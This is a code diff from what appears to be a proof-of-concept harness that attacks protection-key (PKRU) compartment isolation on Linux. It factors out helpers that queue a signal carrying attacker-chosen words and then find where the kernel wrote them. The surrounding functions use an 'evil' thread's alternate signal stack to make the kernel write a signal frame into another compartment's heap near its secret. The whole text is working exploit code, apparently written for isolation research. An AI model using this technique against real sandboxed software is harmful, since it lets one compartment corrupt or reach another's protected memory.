@@ -875,6 +875,32 @@ static long tid_address(uintptr_t target)
 }
 
 /*
+ * Sends SIGUSR2 to thread tid with a siginfo whose bytes 16 to 47 (what
+ * the kernel keeps of a queued one) are 4 words of value: where those land
+ * in the frame is where an attacker's words do. The system call's result.
+ */
+static long queue_marked(pid_t tid, unsigned long value)
+{
+	siginfo_t si;
+
+	memset(&si, 0, sizeof(si));
+	si.si_signo = SIGUSR2;
+	si.si_code = -1; /* SI_QUEUE */
+	for (int w = 2; w < 6; w++)
+		((unsigned long *)&si)[w] = value;
+	return syscall(SYS_rt_tgsigqueueinfo, getpid(), tid, SIGUSR2, &si);
+}
+
+/* The first word of value in the upper 64 KiB of buf (128 KiB), or 0: a marked frame's. */
+static uintptr_t marked_word(const char *buf, unsigned long value)
+{
+	for (uintptr_t o = 0x10000; o < 0x20000; o += 8)
+		if (*(const unsigned long *)(buf + o) == value)
+			return (uintptr_t)(buf + o);
+	return 0;
+}
+
+/*
  * The kernel writes a signal frame where the thread's signal stack says,
  * under the PKRU of the code it interrupts (6.1). A thread of evil's names
  * a signal stack that ends above app's secret (in app's heap), crosses
@@ -947,18 +973,9 @@ static long frame_sigframe(uintptr_t target)
 	while (!c.ready)
 		usleep(1000);
 	usleep(10000);
-	siginfo_t ci;
-	memset(&ci, 0, sizeof(ci));
-	ci.si_signo = SIGUSR2;
-	ci.si_code = -1;
-	for (int w = 2; w < 6; w++) /* siginfo bytes 16..47: the kernel keeps 48 */
-		((unsigned long *)&ci)[w] = value;
-	syscall(SYS_rt_tgsigqueueinfo, getpid(), c.tid, SIGUSR2, &ci);
+	queue_marked(c.tid, value);
 	usleep(50000);
-	uintptr_t lo_cal = 0;
-	for (uintptr_t o = 0x10000; o < 0x20000 && !lo_cal; o += 8)
-		if (*(unsigned long *)(buf + o) == value)
-			lo_cal = (uintptr_t)(buf + o);
+	uintptr_t lo_cal = marked_word(buf, value);
 	printf("sigaltstack-frame: calibration: siginfo's words at %#lx, %#lx below the signal "
 	       "stack's top\n",
 	       (unsigned long)lo_cal, (unsigned long)(c.cal_top - lo_cal));
@@ -985,13 +1002,7 @@ static long frame_sigframe(uintptr_t target)
 	while (!a.ready)
 		usleep(1000);
 	usleep(100000); /* the victim is now in app_busy */
-	siginfo_t si;
-	memset(&si, 0, sizeof(si));
-	si.si_signo = SIGUSR2;
-	si.si_code = -1; /* SI_QUEUE */
-	for (int w = 2; w < 6; w++)
-		((unsigned long *)&si)[w] = value;
-	long r = syscall(SYS_rt_tgsigqueueinfo, getpid(), a.tid, SIGUSR2, &si);
+	long r = queue_marked(a.tid, value);
 	printf("sigaltstack-frame: rt_tgsigqueueinfo to %d: %ld\n", (int)a.tid, r);
 	fflush(stdout);
 	usleep(50000);
@@ -1225,18 +1236,9 @@ static long table_tail_frame(uintptr_t target)
 		errno = c.err;
 		return 0;
 	}
-	siginfo_t ci;
-	memset(&ci, 0, sizeof(ci));
-	ci.si_signo = SIGUSR2;
-	ci.si_code = -1;
-	for (int w = 2; w < 6; w++)
-		((unsigned long *)&ci)[w] = value;
-	syscall(SYS_rt_tgsigqueueinfo, getpid(), c.tid, SIGUSR2, &ci);
+	queue_marked(c.tid, value);
 	usleep(50000);
-	uintptr_t lo_cal = 0;
-	for (uintptr_t o = 0x10000; o < 0x20000 && !lo_cal; o += 8)
-		if (*(unsigned long *)(buf + o) == value)
-			lo_cal = (uintptr_t)(buf + o);
+	uintptr_t lo_cal = marked_word(buf, value);
 	printf("table-tail: calibration: siginfo's words at %#lx below the top\n",
 	       lo_cal ? (unsigned long)(c.top - lo_cal) : 0UL);
 	if (!lo_cal) {
@@ -1255,8 +1257,7 @@ static long table_tail_frame(uintptr_t target)
 	while (!a.ready)
 		usleep(1000);
 	usleep(100000); /* in app_busy */
-	siginfo_t si = ci;
-	long r = syscall(SYS_rt_tgsigqueueinfo, getpid(), a.tid, SIGUSR2, &si);
+	long r = queue_marked(a.tid, value);
 	printf("table-tail: rt_tgsigqueueinfo %ld\n", r);
 	fflush(stdout);
 	usleep(400000);
